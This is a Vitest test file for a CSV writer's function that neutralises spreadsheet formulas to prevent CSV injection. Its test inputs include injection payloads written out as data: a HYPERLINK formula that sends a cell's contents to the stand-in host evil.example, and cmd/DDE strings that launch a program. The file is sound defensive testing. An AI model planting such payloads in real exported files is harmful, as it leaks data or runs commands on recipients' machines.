/** The CSV writer's formula neutralising (OWASP CSV injection). */
import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { csvDocument, neutraliseCsvCell } from './csv';

describe('neutraliseCsvCell', () => {
  it.each([
    ['=HYPERLINK("http://evil.example/?x="&C2,"x")', `'=HYPERLINK("http://evil.example/?x="&C2,"x")`],
    ["+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"],
    ['-2+3+cmd|/C calc!A0', "'-2+3+cmd|/C calc!A0"],
    ['@SUM(1+9)*cmd|/C calc!A0', "'@SUM(1+9)*cmd|/C calc!A0"],
    ['\t=1+1', "'\t=1+1"],
    ['\r=1+1', "'\r=1+1"],
    ['-1e3', "'-1e3"],
    ['-A1', "'-A1"],
    ['-', "'-"],
  ])('prefixes a cell that starts a formula: %j', (cell, want) => {
    expect(neutraliseCsvCell(cell)).toBe(want);
  });

  it.each(['Grace', 'O’Brien, Jr', '', ' =1+1', 'a=b', '2026-12-01 06:00', '12.50', '-12.50', '-3', '0'])(
    'leaves %j as it is',
    (cell) => {
      expect(neutraliseCsvCell(cell)).toBe(cell);
    },
  );
});

describe('csvDocument', () => {
  it('neutralises every text cell, header included, keeps numbers, and quotes as csv-stringify does', () => {
    const text = csvDocument([
      ['Name', '=Lot cars parked'],
      ['=HYPERLINK("http://evil.example/?x="&C2,"x")', -12.5],
      ['\r=1+1', '-12.50'],
      [true, null],
    ]);
    expect(text.split('\n')[1]).toBe(`"'=HYPERLINK(""http://evil.example/?x=""&C2,""x"")",-12.5`);
    expect(parse(text)).toEqual([
      ['Name', "'=Lot cars parked"],
      [`'=HYPERLINK("http://evil.example/?x="&C2,"x")`, '-12.5'],
      ["'\r=1+1", '-12.50'],
      ['yes', ''],
    ]);
  });
});
